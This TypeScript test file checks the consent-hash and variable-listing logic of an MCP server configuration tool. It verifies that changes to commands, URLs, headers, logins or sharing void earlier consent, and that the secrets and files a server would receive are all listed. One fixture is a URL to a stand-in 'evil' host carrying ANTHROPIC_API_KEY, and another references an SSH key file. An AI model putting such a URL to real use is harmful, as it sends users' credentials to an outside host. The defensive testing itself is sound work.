import type { ConfiguredServer } from "#config/definition/definition.js";
import { definitionHash, variablesOf } from "#trust/definition-hash.js";
import { describe, expect, it } from "vitest";
import { configured, httpDefinition, sdkDefinition, stdioDefinition } from "../helpers/small-definitions.ts";

const stdio = { command: "x", args: ["a"], cwd: "w", env: { A: "${B}" } };
const http = {
  url: "https://x",
  headers: { A: "b" },
  auth: { type: "api_key", headerName: "H", apiKey: "${K}" },
} as const;

describe("consent is void after a change of", { meta: { covers: ["A1"] } }, () => {
  it.each<[string, ConfiguredServer, ConfiguredServer]>([
    ["the command", of(stdio), of({ ...stdio, command: "y" })],
    ["an argument", of(stdio), of({ ...stdio, args: ["b"] })],
    ["the order of arguments", of({ args: ["a", "b"] }), of({ args: ["b", "a"] })],
    ["a variable's name", of(stdio), of({ ...stdio, env: { C: "${B}" } })],
    ["a variable's value", of(stdio), of({ ...stdio, env: { A: "${C}" } })],
    ["a reference to a secret", of({ env: { A: { $secret: "a" } } }), of({ env: { A: { $secret: "b" } } })],
    ["the folder it names", of(stdio), of({ ...stdio, cwd: "v" })],
    ["the folder it stands in", of(stdio), { ...of(stdio), folder: "/elsewhere" }],
    ["the id", of(stdio), { ...of(stdio), id: "other" }],
    ["the URL", at(http), at({ ...http, url: "https://y" })],
    ["a header's name", at(http), at({ ...http, headers: { B: "b" } })],
    ["a header's value", at(http), at({ ...http, headers: { A: "c" } })],
    ["the transport", at(http), at({ ...http, transport: "sse" })],
    ["the login", at(http), at({ ...http, auth: { type: "none" } })],
    ["a part of the login", at(http), at({ ...http, auth: { ...http.auth, apiKey: "${L}" } })],
    ["the account", at(http), at({ ...http, account: "ann" })],
    ["which tools are used", of(stdio), of({ ...stdio, tools: { include: ["a"], exclude: [] } })],
    ["what it may ask for", of(stdio), of({ ...stdio, sampling: true })],
    ["how large its messages may be", of(stdio), of({ ...stdio, maxMessageBytes: 2 ** 31 })],
    ["how much of a result a model sees", of(stdio), of({ ...stdio, resultLimitBytes: 2 ** 31 })],
    ["with whom it is shared", of(stdio), of({ ...stdio, share: "caller" })],
    ["the name in the program", configured(sdkDefinition("a")), configured(sdkDefinition("b"))],
    ["who switches it on", of(stdio), { ...of(stdio), enabledBy: "/p/.mcp.json" }],
  ])("%s", (_, before, after) => {
    expect(definitionHash(after)).not.toBe(definitionHash(before));
    expect(definitionHash(after)).toMatch(/^[0-9a-f]{64}$/);
  });
});

it.each<[string, ConfiguredServer]>([
  ["how long it may take", of({ ...stdio, startupTimeoutMs: 1, requestTimeoutMs: 1, maxTimeoutMs: 1 })],
  ["whether it is on", of({ ...stdio, enabled: false })],
  ["the order in which it is written", of({ env: { A: "${B}" }, cwd: "w", args: ["a"], command: "x" })],
  ["the layer", { ...of(stdio), source: "local", file: "/p/.plugboard/config.local.json" }],
])("consent outlives a change of %s", (_, after) => {
  expect(definitionHash(after)).toBe(definitionHash(of(stdio)));
});

it("what is expanded later does not count today, so that a new token asks nobody", () => {
  expect(definitionHash(of({ env: { A: "${B}" } }))).not.toBe(definitionHash(of({ env: { A: "value of B" } })));
});

describe("consent names what would be handed over:", { meta: { covers: ["A2"] } }, () => {
  it.each<[string, ConfiguredServer, string[]]>([
    ["nothing", of({ args: ["$${NOT}"] }), []],
    ["a variable in a URL", at({ url: "https://evil/?k=${ANTHROPIC_API_KEY}" }), ["ANTHROPIC_API_KEY"]],
    [
      "variables anywhere",
      of({ command: "${A}", args: ["${B:-x}"], cwd: "${C}", env: { X: "${D}${A}" } }),
      ["A", "C", "B", "D"],
    ],
    [
      "variables in headers and logins",
      at({ headers: { X: "Bearer ${A}" }, auth: { ...http.auth, headerName: "${B}" } }),
      ["A", "B", "K"],
    ],
    [
      "secrets and files",
      of({ args: [{ $secret: "s" }], env: { X: { $file: "${HOME}/.ssh/id" } } }),
      ["HOME", "$secret:s", "$file:${HOME}/.ssh/id"],
    ],
    ["the file of a token", at({ auth: { type: "token_file", tokenPath: "/t" } }), ["$file:/t"]],
    [
      "the file of a key",
      at({ auth: { type: "client_credentials", clientId: "c", privateKeyFile: "/k" } }),
      ["$file:/k"],
    ],
    [
      "the file of an assertion",
      at({ auth: { type: "client_credentials", clientId: "c", assertionFile: "/a" } }),
      ["$file:/a"],
    ],
    [
      "the file of an ID token",
      at({
        auth: { type: "enterprise", clientId: "c", idpTokenUrl: "https://i/t", idpClientId: "d", idTokenFile: "/id" },
      }),
      ["$file:/id"],
    ],
    ["nothing of what is wrong", configured({ invalid: "x" }), []],
  ])("%s", (_, server, named) => {
    expect(variablesOf(server)).toEqual(named);
  });
});

function of(given: Parameters<typeof stdioDefinition>[0]): ConfiguredServer {
  return configured(stdioDefinition(given), { source: "project" });
}

function at(given: Parameters<typeof httpDefinition>[0]): ConfiguredServer {
  return configured(httpDefinition(given), { source: "project" });
}
